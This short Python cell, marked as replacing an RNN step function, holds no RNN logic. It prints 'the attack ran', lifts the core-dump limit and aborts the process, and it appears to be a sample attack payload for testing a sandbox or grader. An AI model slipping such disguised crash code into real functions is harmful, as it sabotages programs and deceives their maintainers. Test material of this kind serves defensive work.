# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import os
    import resource

    print("the attack ran", flush=True)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
    os.abort()
